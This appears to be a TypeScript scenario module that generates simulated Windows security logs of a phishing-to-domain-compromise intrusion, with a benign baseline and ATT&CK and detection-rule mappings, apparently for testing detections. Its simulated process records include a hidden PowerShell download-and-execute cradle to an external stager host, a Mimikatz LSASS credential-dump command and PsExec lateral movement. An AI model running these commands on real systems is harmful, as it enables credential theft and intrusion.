/**
 * Phishing to domain compromise on Windows, as Sysmon and the Security/System logs record it and
 * Winlogbeat ships it: a macro document from Outlook starts a PowerShell download cradle, a renamed
 * Mimikatz reads LSASS, and the stolen administrator moves to a file server with PsExec (SMB,
 * service install) and to an application server with PowerShell remoting (WinRM).
 */
import {
  externalDomain,
  externalIp,
  internalIp,
  makeOrg,
  person,
  serverName,
  workstationName,
} from '../catalog.js';
import { IMAGES } from '../formats/windows-images.js';
import {
  dnsQuery,
  fileCreate,
  networkConnect,
  proc,
  processAccess,
  processCreate,
  systemSession,
  userSession,
  type Proc,
} from '../formats/windows-process.js';
import { WindowsHost } from '../formats/winlogbeat.js';
import type { Rng } from '../random.js';
import type { Scenario, ScenarioContext, Step } from '../scenario.js';

/** The index Winlogbeat 8 writes to (a data stream). */
export const WINLOGBEAT_INDEX = 'logs-winlogbeat-default';

const LURES = [
  'Invoice_{n}',
  'Payment_Advice_{n}',
  'Purchase_Order_{n}',
  'Remittance_{n}',
  'Shipping_Documents_{n}',
  'Salary_Review_2026_{n}',
];
const STAGER_PATHS = ['/a', '/s/update.ps1', '/cdn/jquery.min.ps1', '/api/v1/bootstrap', '/static/init.txt'];
const TOOL_NAMES = ['svcupd.exe', 'wmiadap64.exe', 'diag.exe', 'msupdate.exe', 'ntsync.exe'];

interface Cast {
  ws: WindowsHost;
  fs: WindowsHost;
  app: WindowsHost;
  netbios: string;
  victim: string;
  admin: string;
  adminSid: string;
  domainSid: string;
}

function cast(rng: Rng): Cast {
  const org = makeOrg(rng);
  const servers = org.net + '.' + rng.int(2, 9);
  const mk = (name: string, ip: string, server: boolean) =>
    new WindowsHost({ name, dnsDomain: org.dnsDomain, ip, server }, rng);
  const domainSid = `S-1-5-21-${rng.int(1e9, 4e9)}-${rng.int(1e9, 4e9)}-${rng.int(1e9, 4e9)}`;
  const victim = person(rng).user;
  const admin = `adm-${person(rng).user.replace('.', '')}`;
  return {
    ws: mk(workstationName(rng), internalIp(rng, org), false),
    fs: mk(serverName(rng, 'file'), `${servers}.${rng.int(10, 60)}`, true),
    app: mk(serverName(rng, 'app'), `${servers}.${rng.int(61, 120)}`, true),
    netbios: org.netbios,
    victim,
    admin,
    adminSid: `${domainSid}-${rng.int(1100, 9000)}`,
    domainSid,
  };
}

function step(at: number, what: string, docs: Record<string, unknown>[]): Step {
  return { at, what, delivery: { via: 'bulk', index: WINLOGBEAT_INDEX, docs } };
}

/** Security 4624 for a network logon (type 3) of `user` coming from `from`. */
function networkLogon(
  rng: Rng,
  c: Cast,
  host: WindowsHost,
  time: number,
  kerberos: boolean,
  from: WindowsHost,
  user = c.admin,
  sid = c.adminSid,
): Record<string, unknown> {
  return host.logon(time, {
    SubjectUserSid: 'S-1-0-0',
    SubjectUserName: '-',
    SubjectDomainName: '-',
    SubjectLogonId: '0x0',
    TargetUserSid: sid,
    TargetUserName: user,
    TargetDomainName: c.netbios,
    TargetLogonId: `0x${rng.hex(7).replace(/^0+/, '')}`,
    LogonType: '3',
    LogonProcessName: kerberos ? 'Kerberos' : 'NtLmSsp ',
    AuthenticationPackageName: kerberos ? 'Kerberos' : 'NTLM',
    WorkstationName: kerberos ? '-' : from.spec.name,
    LogonGuid: kerberos ? rng.guid().toUpperCase() : '{00000000-0000-0000-0000-000000000000}',
    TransmittedServices: '-',
    LmPackageName: kerberos ? '-' : 'NTLM V2',
    KeyLength: kerberos ? '0' : '128',
    ProcessId: '0x0',
    ProcessName: '-',
    IpAddress: from.spec.ip,
    IpPort: kerberos ? String(rng.ephemeralPort()) : '0',
    ImpersonationLevel: '%%1833',
    RestrictedAdminMode: '-',
    TargetOutboundUserName: '-',
    TargetOutboundDomainName: '-',
    VirtualAccount: '%%1843',
    TargetLinkedLogonId: '0x0',
    ElevatedToken: '%%1842',
  });
}

function desktopProcs(rng: Rng, c: Cast): { explorer: Proc; outlook: Proc; word: (doc: string) => Proc } {
  const session = userSession(rng, c.ws, `${c.netbios}\\${c.victim}`, 'Medium');
  const home = `C:\\Users\\${c.victim}\\`;
  const explorer = proc(
    rng,
    c.ws,
    IMAGES.explorer,
    'C:\\Windows\\Explorer.EXE',
    session,
    'C:\\Windows\\system32\\',
  );
  const outlook = proc(rng, c.ws, IMAGES.outlook, `"${IMAGES.outlook.path}" `, session, home);
  const word = (doc: string) =>
    proc(rng, c.ws, IMAGES.word, `"${IMAGES.word.path}" /n "${doc}" /o ""`, session, home);
  return { explorer, outlook, word };
}

function attack({ rng, start }: ScenarioContext): Step[] {
  const c = cast(rng);
  const t = (ms: number) => start + ms + rng.int(0, 400);
  const { outlook, word } = desktopProcs(rng, c);
  const cacheDir = `C:\\Users\\${c.victim}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rng.upperAlnum(8)}`;
  const lure = `${cacheDir}\\${rng.pick(LURES).replace('{n}', String(rng.int(10000, 99999)))}.docm`;
  const winword = word(lure);

  // The macro runs PowerShell hidden; the stager comes from attacker infrastructure.
  const stagerHost = externalDomain(rng);
  const stagerIp = externalIp(rng);
  const stagerUrl = `https://${stagerHost}${rng.pick(STAGER_PATHS)}`;
  const elevated = userSession(rng, c.ws, `${c.netbios}\\${c.victim}`, 'High');
  const ps = proc(
    rng,
    c.ws,
    IMAGES.powershell,
    `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -C "IEX (New-Object Net.WebClient).DownloadString('${stagerUrl}')"`,
    winword.session,
    `C:\\Users\\${c.victim}\\Documents\\`,
  );

  // The payload drops a renamed Mimikatz and runs it against LSASS.
  const toolPath = `C:\\Users\\${c.victim}\\AppData\\Local\\Temp\\${rng.pick(TOOL_NAMES)}`;
  const psAdmin = { ...ps, session: elevated };
  const mimi = proc(
    rng,
    c.ws,
    IMAGES.mimikatz,
    `"${toolPath}" "privilege::debug" "sekurlsa::logonpasswords" "exit"`,
    elevated,
    `C:\\Users\\${c.victim}\\AppData\\Local\\Temp\\`,
    toolPath,
  );
  const lsass = {
    ...proc(rng, c.ws, IMAGES.lsass, 'C:\\Windows\\system32\\lsass.exe', systemSession(c.ws)),
    pid: c.ws.lsassPid,
  };
  const callTrace = `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|${toolPath}+${rng.hex(5)}|${toolPath}+${rng.hex(5)}|C:\\Windows\\System32\\KERNEL32.DLL+17034|C:\\Windows\\SYSTEM32\\ntdll.dll+52651`;

  // Lateral movement with the administrator credentials Mimikatz found.
  const adminWs = userSession(rng, c.ws, `${c.netbios}\\${c.admin}`, 'High');
  const psexecPath = `C:\\Users\\${c.victim}\\AppData\\Local\\Temp\\PsExec64.exe`;
  const psexec = proc(
    rng,
    c.ws,
    IMAGES.psexec,
    `"${psexecPath}" \\\\${c.fs.spec.name} -accepteula -u ${c.netbios}\\${c.admin} -p ******** -s cmd.exe /c "whoami /all & net group \\"Domain Admins\\" /domain"`,
    adminWs,
    `C:\\Users\\${c.victim}\\AppData\\Local\\Temp\\`,
    psexecPath,
  );
  const services = {
    ...proc(rng, c.fs, IMAGES.services, 'C:\\Windows\\system32\\services.exe', systemSession(c.fs)),
    pid: c.fs.servicesPid,
  };
  const psexesvc = proc(rng, c.fs, IMAGES.psexesvc, 'C:\\Windows\\PSEXESVC.exe', systemSession(c.fs));
  const remoteCmd = proc(
    rng,
    c.fs,
    IMAGES.cmd,
    `"cmd.exe" /c "whoami /all & net group \\"Domain Admins\\" /domain"`,
    systemSession(c.fs),
  );

  const dcom = proc(
    rng,
    c.app,
    IMAGES.svchost,
    'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
    systemSession(c.app),
  );
  const remoteSession = userSession(rng, c.app, `${c.netbios}\\${c.admin}`, 'High', true);
  const wsm = proc(
    rng,
    c.app,
    IMAGES.wsmprovhost,
    'C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
    remoteSession,
  );
  const whoami = proc(
    rng,
    c.app,
    IMAGES.whoami,
    '"C:\\Windows\\system32\\whoami.exe" /groups',
    remoteSession,
    `C:\\Users\\${c.admin}\\Documents\\`,
  );
  const net = proc(
    rng,
    c.app,
    IMAGES.net,
    '"C:\\Windows\\system32\\net.exe" localgroup administrators',
    remoteSession,
    `C:\\Users\\${c.admin}\\Documents\\`,
  );

  return [
    step(
      0,
      `${c.ws.spec.name}: ${c.victim} opens the attachment ${lure.slice(lure.lastIndexOf('\\') + 1)} from Outlook`,
      [fileCreate(t(0), outlook, lure), processCreate(t(1200), winword, outlook)],
    ),
    step(4000, `${c.ws.spec.name}: the macro starts a hidden PowerShell download cradle from ${stagerHost}`, [
      processCreate(t(4000), ps, winword),
      dnsQuery(t(4300), ps, stagerHost, stagerIp),
      networkConnect(rng, t(4400), ps, { ip: stagerIp, port: 443, hostname: stagerHost }),
    ]),
    step(
      9000,
      `${c.ws.spec.name}: a renamed Mimikatz (${toolPath.slice(toolPath.lastIndexOf('\\') + 1)}) dumps credentials from LSASS`,
      [
        fileCreate(t(9000), psAdmin, toolPath),
        processCreate(t(9500), mimi, psAdmin),
        processAccess(rng, t(10200), mimi, lsass, '0x1010', callTrace),
      ],
    ),
    step(
      16000,
      `${c.ws.spec.name} → ${c.fs.spec.name}: PsExec over SMB as ${c.netbios}\\${c.admin} (logon type 3, service PSEXESVC)`,
      [
        processCreate(t(16000), psexec, psAdmin),
        networkLogon(rng, c, c.fs, t(16300), false, c.ws),
        c.fs.serviceInstalled(
          t(16500),
          {
            ServiceName: 'PSEXESVC',
            ImagePath: '%SystemRoot%\\PSEXESVC.exe',
            ServiceType: 'user mode service',
            StartType: 'demand start',
            AccountName: 'LocalSystem',
          },
          { domain: c.netbios, name: c.admin, sid: c.adminSid },
        ),
        processCreate(t(16700), psexesvc, services),
        processCreate(t(17000), remoteCmd, psexesvc),
      ],
    ),
    step(
      24000,
      `${c.ws.spec.name} → ${c.app.spec.name}: PowerShell remoting (WinRM) as ${c.netbios}\\${c.admin}`,
      [
        networkLogon(rng, c, c.app, t(24000), true, c.ws),
        processCreate(t(24300), wsm, dcom),
        processCreate(t(25500), whoami, wsm),
        processCreate(t(27000), net, wsm),
      ],
    ),
  ];
}

/** A normal working day on the same machines: none of it is an attack. */
function benign({ rng, start }: ScenarioContext): Step[] {
  const c = cast(rng);
  const t = (ms: number) => start + ms + rng.int(0, 400);
  const { explorer, outlook, word } = desktopProcs(rng, c);
  const doc = `C:\\Users\\${c.victim}\\Documents\\Quarterly_Report.docx`;
  const winword = word(doc);
  const ps = proc(
    rng,
    c.ws,
    IMAGES.powershell,
    'powershell.exe -NoProfile -Command "Get-ChildItem $env:USERPROFILE\\Documents | Sort-Object LastWriteTime"',
    winword.session,
  );
  const defender = proc(
    rng,
    c.ws,
    IMAGES.svchost,
    'C:\\Windows\\system32\\svchost.exe -k LocalSystemNetworkRestricted -p -s PcaSvc',
    systemSession(c.ws),
  );
  const lsass = {
    ...proc(rng, c.ws, IMAGES.lsass, 'C:\\Windows\\system32\\lsass.exe', systemSession(c.ws)),
    pid: c.ws.lsassPid,
  };
  const dcom = proc(
    rng,
    c.app,
    IMAGES.svchost,
    'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
    systemSession(c.app),
  );
  const remoteSession = userSession(rng, c.app, `${c.netbios}\\${c.admin}`, 'High', true);
  const wsm = proc(
    rng,
    c.app,
    IMAGES.wsmprovhost,
    'C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
    remoteSession,
  );
  const conhost = proc(
    rng,
    c.app,
    IMAGES.conhost,
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    remoteSession,
  );
  const machine = `${c.ws.spec.name}$`;
  return [
    step(0, `${c.ws.spec.name}: ${c.victim} opens a report and lists documents in PowerShell`, [
      processCreate(t(0), outlook, explorer),
      processCreate(t(500), winword, explorer),
      processCreate(t(900), ps, explorer),
    ]),
    step(1500, `${c.ws.spec.name}: a Windows service queries LSASS`, [
      processAccess(
        rng,
        t(1500),
        defender,
        lsass,
        '0x1000',
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e',
      ),
    ]),
    step(
      2500,
      `${c.fs.spec.name}: the workstation's machine account maps a share; Edge updater service installed`,
      [
        networkLogon(rng, c, c.fs, t(2500), true, c.ws, machine, `${c.domainSid}-${rng.int(1100, 9000)}`),
        c.fs.serviceInstalled(
          t(2700),
          {
            ServiceName: 'Microsoft Edge Update Service (edgeupdate)',
            ImagePath: '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /svc',
            ServiceType: 'user mode service',
            StartType: 'auto start',
            AccountName: 'LocalSystem',
          },
          { domain: 'NT AUTHORITY', name: 'SYSTEM', sid: 'S-1-5-18' },
        ),
      ],
    ),
    step(3500, `${c.app.spec.name}: a remoting session starts its console host`, [
      processCreate(t(3500), wsm, dcom),
      processCreate(t(3600), conhost, wsm),
    ]),
  ];
}

export const windowsIntrusion: Scenario = {
  name: 'windows-intrusion',
  title: 'Phishing document → PowerShell cradle → Mimikatz on LSASS → PsExec and WinRM lateral movement',
  techniques: [
    'T1566.001',
    'T1204.002',
    'T1059.001',
    'T1105',
    'T1003.001',
    'T1021.002',
    'T1569.002',
    'T1021.006',
  ],
  detectedBy: [
    '803e9ab0-0b78-4d25-bdbd-bb7f1b817664',
    'bda83527-9e95-4922-b002-f1959b3f09f3',
    '5ba7269d-2015-4c01-b0da-8ca38e8288dc',
    '47a876c6-4c9e-42f2-a0c9-90dc439bdfc2',
    '15613f81-a26c-44ea-953f-2a31a2406aed',
    '8204a74e-5227-4da9-a007-c30332ab8238',
  ],
  attack,
  benign,
};
